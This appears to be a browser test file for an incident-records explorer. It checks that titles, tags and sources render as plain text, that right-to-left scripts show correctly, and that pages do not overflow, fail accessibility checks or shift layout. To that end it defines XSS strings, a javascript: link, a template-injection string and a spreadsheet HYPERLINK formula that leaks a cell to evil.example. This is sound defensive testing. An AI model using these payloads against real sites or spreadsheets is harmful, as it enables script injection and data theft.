/** Shows the explorer records that are written to harm, in every script and size, in light, in dark and on a phone. */
import t from 'tap'
import { actor, incident, location, source } from '../support/records.js'
import { axe, browsed, complaints, settled, skip } from './fixtures/browsed.js'

const SCRIPT = '<script>alert(1)</script><img src=x onerror=alert(2)>'
const LINK = 'javascript:alert(3)'
const ARABIC = 'اعتقال متظاهرين في دمشق عام 2012'
const CHINESE = '济南警方抽取血液样本'
const LONG = 'Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz'.repeat(6)
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"look")'

const WORLD = [
  source('evil', {
    title: `${SCRIPT} source`,
    publisher: '<br>',
    cites: ['quiet'],
  }),
  source('quiet', { title: LONG }),
  actor('evil', { name: SCRIPT, kind: 'group' }),
  location('evil', {
    name: `${SCRIPT}\u202Etxet`,
    country: 'SY',
    geometry: { type: 'Point', coordinates: [36.3, 33.5] },
    radius_m: 5_000,
  }),
  location('edge', {
    name: 'At the edge',
    geometry: { type: 'Point', coordinates: [179.9, -16.5] },
    radius_m: 400_000,
  }),
  incident('evil', {
    title: `Evil ${SCRIPT}<br>`,
    summary: `${SCRIPT}\n{{constructor.constructor('alert(4)')()}} ${FORMULA}`,
    date: '2012-05',
    tags: [SCRIPT, '=1+1'],
    attributes: { evil: SCRIPT },
    actors: [{ id: 'evil', role: 'perpetrator', note: SCRIPT }],
    locations: [{ id: 'evil' }],
    claims: [
      {
        id: 'c1',
        field: 'title',
        value: SCRIPT,
        source: 'evil',
        note: SCRIPT,
        locator: SCRIPT,
        adopted: false,
      },
      { id: 'c2', field: '*', source: 'quiet' },
    ],
  }),
  incident('arabic', {
    title: ARABIC,
    summary: ARABIC,
    lang: 'ar',
    date: '2012-04-01/..',
    translations: { zh: { title: CHINESE, summary: CHINESE } },
  }),
  incident('chinese', { title: CHINESE, lang: 'zh', date: '2012-03~' }),
  incident('long', { title: LONG, summary: LONG, date: '-0425/2012', locations: [{ id: 'edge' }] }),
  incident('formula', { title: FORMULA, date: '2012-02-01' }),
]

t.test('text is text', { skip }, async (t) => {
  const { open, url } = await browsed(t, WORLD)

  t.test('scripts, markup and formulas stay what they are', async (t) => {
    const page = await open(t, '/?date=2012')
    await page.locator('[data-facet="tag"]').scrollIntoViewIfNeeded()
    await settled(page)
    const rows = await page.locator('.rows').innerText()
    t.ok(rows.includes(`Evil ${SCRIPT}<br>`))
    t.ok(rows.includes(FORMULA))
    t.ok((await page.locator('.facet fieldset').allInnerTexts()).join().includes(SCRIPT))
    await page.locator('.rows a', { hasText: 'May 2012' }).click()
    await settled(page)
    const record = await page.locator('.record').innerText()
    t.ok(record.split(SCRIPT).length > 6, 'it is shown wherever it stands')
    t.equal(await page.locator('.record img, .record script, .rows img, .rows br, .facet img').count(), 0)
    t.equal(await page.evaluate('document.scripts.length'), 1)
    t.strictSame(await axe(page), [])
    t.strictSame(
      await complaints(page),
      [],
      'nothing ran, nothing was asked elsewhere, nothing was forbidden',
    )
  })

  t.test('the address of the page is no way in', async (t) => {
    const page = await open(t, `/?${encodeURIComponent(SCRIPT)}=1&q=${encodeURIComponent(SCRIPT)}`)
    t.ok((await page.locator('.empty').innerText()).includes('unknown parameter'))
    await page.goto(
      `${url}/#record=${encodeURIComponent(`../../${SCRIPT}`)}&span=${encodeURIComponent(SCRIPT)}`,
    )
    await page.getByText('There is no such record').waitFor()
    t.strictSame(await complaints(page), [])
  })

  t.test('a source links nowhere but to the web', async (t) => {
    const page = await open(t, '/#record=evil')
    const links = await page
      .locator('a')
      .evaluateAll((links) => links.map((link) => String(link.getAttribute('href'))))
    t.ok(links.length > 20)
    t.ok(links.every((link) => !link.startsWith(LINK.slice(0, 11))))
  })

  t.test('text runs in its own direction, and says its language', async (t) => {
    const page = await open(t, '/?date=2012#record=arabic')
    const heading = page.locator('.record h2')
    t.equal(await heading.getAttribute('lang'), 'ar')
    t.equal(await page.evaluate(`getComputedStyle(document.querySelector('.record h2')).direction`), 'rtl')
    t.equal(await page.evaluate(`getComputedStyle(document.querySelector('.translation')).direction`), 'ltr')
    t.equal(await page.locator('.translation').getAttribute('lang'), 'zh')
  })

  for (const [name, options] of Object.entries({
    dark: { colorScheme: 'dark' },
    phone: { viewport: { width: 360, height: 740 } },
    'phone, dark': { viewport: { width: 360, height: 740 }, colorScheme: 'dark' },
    'small screen': { viewport: { width: 1024, height: 600 } },
  } as const)) {
    t.test(name, async (t) => {
      const page = await open(t, '/?date=../2023', options)
      const overflow = () => page.evaluate('document.documentElement.scrollWidth - innerWidth')
      t.ok(Number(await overflow()) <= 0, 'nothing is wider than the screen')
      t.strictSame(await axe(page), [])
      for (const id of ['evil', 'long']) {
        await page.goto(`${url}/?date=../2023#record=${id}`)
        await settled(page)
        t.ok(await page.locator('.record h2').isVisible())
        t.ok(Number(await overflow()) <= 0, `nor with ${id}`)
        t.strictSame(await axe(page), [])
      }
      await page.getByRole('button', { name: 'Close' }).click()
      await page.locator('.record').waitFor({ state: 'detached' })
      t.equal(await page.locator('.record').count(), 0)
      t.strictSame(await complaints(page), [])
    })
  }

  t.test('nothing jumps when answers come', async (t) => {
    const page = await open(t, '/?country=CN')
    const shifts = (await page.evaluate(`new Promise((done) => {
      const found = []
      const place = ({ x, y, width, height }) => [x, y, width, height].map(Math.round).join()
      const named = (node) => (node?.nodeType === 1 ? node : node?.parentElement)?.outerHTML.slice(0, 60)
      new PerformanceObserver((list) => {
        for (const { value, hadRecentInput, sources } of list.getEntries()) {
          const moved = sources.map(({ node, previousRect, currentRect }) =>
            named(node) + ' from ' + place(previousRect) + ' to ' + place(currentRect))
          if (!hadRecentInput) found.push({ value, moved })
        }
      }).observe({ type: 'layout-shift', buffered: true })
      setTimeout(() => done(found), 200)
    })`)) as { value: number; moved: string[] }[]
    const sum = shifts.reduce((sum, { value }) => sum + value, 0)
    t.ok(sum < 0.1, `a cumulative layout shift of ${sum}`, { shifts })
  })
})
